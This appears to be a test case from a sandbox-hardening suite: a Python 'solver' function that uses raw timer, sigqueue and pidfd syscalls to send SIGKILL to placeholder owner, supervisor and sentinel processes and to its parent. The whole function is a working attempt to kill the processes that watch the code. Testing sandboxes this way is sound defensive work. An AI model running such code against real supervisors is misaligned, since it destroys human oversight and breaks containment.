# verdict: ok
# row: 7
# A timer, an asynchronous read or a message queue can name who is to get a signal.
import ctypes, os, platform, signal, struct, time

libc = ctypes.CDLL(None, use_errno=True)
CREATE, SETTIME, SIGQUEUE = {"x86_64": (222, 223, 129), "aarch64": (107, 110, 138)}[platform.machine()]

def solver(x):
    for pid in (@OWNER@, @SUPERVISOR@, @SENTINEL@, os.getppid()):
        timer = ctypes.c_int()
        event = struct.pack("<QiiI", 0, signal.SIGKILL, 4, pid) + bytes(44)  # SIGEV_THREAD_ID
        if pid > 1 and pid != os.getpid() and libc.syscall(CREATE, 1, event, ctypes.byref(timer)) == 0:
            libc.syscall(SETTIME, timer, 0, struct.pack("<4q", 0, 0, 0, 1), None)
            print("REACHED", pid)
        info = struct.pack("<iiiii", signal.SIGKILL, 0, -1, pid, 0) + bytes(108)
        if pid > 1 and pid != os.getpid():
            libc.syscall(SIGQUEUE, pid, signal.SIGKILL, info)
            if hasattr(os, "pidfd_open"):
                try:
                    signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
                except OSError:
                    pass
    time.sleep(0.01)
    return x
